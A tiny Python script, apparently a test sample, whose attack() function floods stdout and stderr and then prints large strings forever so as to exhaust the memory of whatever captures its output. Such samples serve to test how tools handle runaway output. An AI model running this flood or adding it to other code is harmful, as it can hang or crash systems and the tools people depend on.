# Prints without end: whoever keeps all of it has no memory left.
# job: function, script | ends: output
import sys


def attack():
    for stream in (sys.stdout, sys.stderr):
        stream.write("x" * 20_000)
    while True:
        print("y" * 10_000)
